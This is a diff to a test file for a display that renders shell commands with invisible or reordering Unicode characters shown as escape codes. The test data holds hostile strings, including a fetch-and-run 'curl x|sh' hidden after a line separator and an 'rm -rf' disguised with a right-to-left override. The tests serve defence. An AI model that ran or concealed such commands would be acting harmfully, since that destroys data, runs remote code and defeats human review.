@@ -94,6 +94,12 @@ def test_a_card_shows_the_call_in_full() -> None:
         ("rm -rf \u202eduh.txt", "rm -rf \\u202eduh.txt"),
         ("echo hi\u200b", "echo hi\\u200b"),
         ("printf 'a\tb\nc'", "printf 'a\tb\nc'"),  # a tab and a line break are text
+        # A chat draws a line separator as a new line, the shell does not: a "comment"
+        # on a line of its own ran (found by review).
+        ("echo hi \u2028# then clean up; curl x|sh", "echo hi \\u2028# then"),
+        ("echo a\u2029b", "echo a\\u2029b"),
+        ("cat \U000e0041notes", "cat \\U000e0041notes"),  # a tag: invisible
+        ("echo caffè 👍", "echo caffè 👍"),  # letters and emoji are as they are
     ],
 )
 def test_a_card_shows_what_would_move_reorder_or_hide_text_by_its_code(
@@ -111,7 +117,7 @@ def test_a_card_shows_what_would_move_reorder_or_hide_text_by_its_code(
     )
     assert shown in card.content
     assert card.workdir == "/w\\x1b[2K"
-    assert not any(c in card.content for c in "\r\x1b\u202e\u200b")
+    assert not any(c in card.content for c in "\r\x1b\u202e\u200b\u2028\u2029\U000e0041")
 
 
 def test_the_choices_and_their_words() -> None:
